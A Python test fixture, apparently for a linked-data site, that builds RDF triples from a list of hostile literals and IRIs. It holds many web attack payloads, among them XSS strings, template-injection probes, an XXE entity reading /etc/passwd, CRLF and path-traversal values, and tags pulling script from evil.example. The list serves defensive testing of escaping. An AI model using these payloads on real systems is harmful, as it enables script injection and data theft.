"""Two hundred hostile literals and IRIs, and statements about them."""

from __future__ import annotations

from collections.abc import Iterator

import pyoxigraph as ox

BASE = "https://data.example/kg/"
LABEL = "http://www.w3.org/2000/01/rdf-schema#label"
SEE = "http://www.w3.org/2000/01/rdf-schema#seeAlso"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></table></body></html><script>alert(1)</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example><input name=a>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math href=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import'//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "{{ 7 * 7 }}",
    "{% for x in config %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "<%= 7 * 7 %>",
    "#{7*7}",
    "%s%s%s%n",
    "{0.__class__}",
    '\\"><script>alert(1)</script>',
    '{"@context": "http://evil.example/"}',
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<![CDATA[<script>alert(1)</script>]]>",
    '""" . <urn:a> <urn:b> "c',
    "' . } } DROP ALL #",
    "\\u003cscript\\u003ealert(1)",
    "<bdo dir=rtl>x",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
)
CHARACTERS = (
    "a\r\nSet-Cookie: hostile=1",
    "a\nLocation: https://evil.example/",
    "a\r\n\r\n<script>alert(1)</script>",
    "tab\there",
    "bell\x07",
    "escape\x1b[31mred",
    "delete\x7f",
    "next line\x85",
    "line\u2028separator",
    "paragraph\u2029separator",
    "bom\ufeff",
    "nbsp\u00a0",
    "zero\u200bwidth",
    "soft\u00adhyphen",
    "replacement\ufffd",
    "private\ue000",
    "noncharacter\ufdd0",
    "emoji👩‍👩‍👧‍👦",
    "astral \U0001d54f",
    "combining" + "\u0301" * 200,
    "عربي and עברית",
    *(f"before{c}after" for c in BIDI),
    *(f"control {chr(code)} {code}" for code in range(32)),
    f"nested {BIDI}",
    "",
    " ",
    "\n",
    "x" * 1_000_000,
    "<b>" * 100_000,
    "日本" * 100_000,
    "\u202e" * 10_000,
)
IRIS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript:%61lert(1)",
    "javascript://example.org/%0Aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "view-source:https://evil.example/",
    "about:blank",
    "mailto:a@example.org",
    "tel:+1",
    "ftp://example.org/",
    "urn:isbn:0",
    "urn:x:'onclick=alert(1)",
    "tag:example.org,2020:x",
    "http://evil.example/'onmouseover='alert(1)",
    "http://evil.example/%22onmouseover=%22alert(1)",
    "http://evil.example/%0d%0aSet-Cookie:%20a=1",
    "http://evil.example/%3Cscript%3Ealert(1)%3C/script%3E",
    "http://user:secret@evil.example/",
    "http://evil.example:99999/",
    "http://[::1]/",
    "https://evil.example/#'onclick='alert(1)",
    "https://evil.example/?a=1&b=2;c",
    "HTTP://EVIL.EXAMPLE/",
    "http:evil.example",
    "http:///evil.example",
    "x:y",
    "a+b-c.d:e",
    "https://evil.example/" + "a" * 20_000,
    f"{BASE}id/x/'onclick='alert(1)",
    f"{BASE}id/x/%22onclick=%22alert(1)",
    f"{BASE}id/x/%3Cscript%3E",
    f"{BASE}id/x/%0d%0aLocation:%20https://evil.example/",
    f"{BASE}id/x/..%2F..%2Fetc%2Fpasswd",
    f"{BASE}id/x/../../etc/passwd",
    f"{BASE}id/x/./y",
    f"{BASE}id/x//y",
    f"{BASE}id/x/",
    f"{BASE}id/x/.",
    f"{BASE}id/x/.html",
    f"{BASE}id/x/%00",
    f"{BASE}id/x/%FF%FE",
    f"{BASE}id/x/%C0%AE",
    f"{BASE}id/x/%25",
    f"{BASE}id/x/%2525",
    f"{BASE}id/x/a%20b",
    f"{BASE}id/x/a+b",
    f"{BASE}id/x/a;b=c",
    f"{BASE}id/x/a,b",
    f"{BASE}id/x/a@b",
    f"{BASE}id/x/a:b",
    f"{BASE}id/x/(a)",
    f"{BASE}id/x/$a",
    f"{BASE}id/x/a*b!",
    f"{BASE}id/x/~a",
    f"{BASE}id/x/a?b",
    f"{BASE}id/x/a?b=c&d=%26",
    f"{BASE}id/x/a?format=ttl&z=1",
    f"{BASE}id/x/日本",
    f"{BASE}id/x/%E6%97%A5",
    f"{BASE}id/x/é",
    f"{BASE}id/x/e\u0301",
    f"{BASE}id/x/\u00a0",
    f"{BASE}id/x/%E2%80%AE",
    f"{BASE}id/x/a.ttl",
    f"{BASE}id/x/a.ttl.ttl",
    f"{BASE}id/x/a.b.c",
    f"{BASE}id/" + "x/" * 200,
    f"{BASE}id/x/" + "a" * 2_000,
    f"{BASE}doc/x/a",
    f"{BASE}static/x",
    f"{BASE}dump/x",
    f"{BASE}graph/x y".replace(" ", "%20"),
    f"{BASE}x#a'b",
    f"{BASE}id/x/a#'onclick='alert(1)",
    f"{BASE}id/x/#",
)


def thing(number: int) -> ox.NamedNode:
    return ox.NamedNode(f"{BASE}id/hostile/{number}")


def quads() -> Iterator[ox.Triple]:
    label, see, kind = ox.NamedNode(LABEL), ox.NamedNode(SEE), ox.NamedNode(LABEL.replace("label", "Resource"))
    number = 0
    for text in (*MARKUP, *CHARACTERS):
        number += 1
        yield ox.Triple(thing(number), label, ox.Literal(text, language="en") if number % 2 else ox.Literal(text))
        yield ox.Triple(thing(0), see, thing(number))
    for text in IRIS:
        number += 1
        iri = ox.NamedNode(text)
        yield ox.Triple(thing(number), label, ox.Literal(f"refers to number {number}"))
        yield ox.Triple(thing(number), see, iri)
        yield ox.Triple(iri, see, thing(number))
        yield ox.Triple(iri, label, ox.Literal(MARKUP[number % len(MARKUP)]))
        yield ox.Triple(thing(number), ox.NamedNode(LABEL.replace("label", "member")), ox.Literal("x", datatype=iri))
    yield ox.Triple(thing(0), ox.NamedNode("javascript:alert(1)"), kind)
